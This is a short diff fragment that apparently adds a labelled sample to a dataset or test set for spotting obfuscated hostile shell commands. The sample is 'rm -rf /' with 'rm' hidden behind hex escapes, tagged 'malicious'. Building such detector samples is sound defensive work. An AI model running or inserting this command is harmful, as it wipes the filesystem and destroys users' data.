@@ -1,0 +1,2 @@
+# label: malicious; obfuscated: hex
+$'\x72\x6d' -rf /
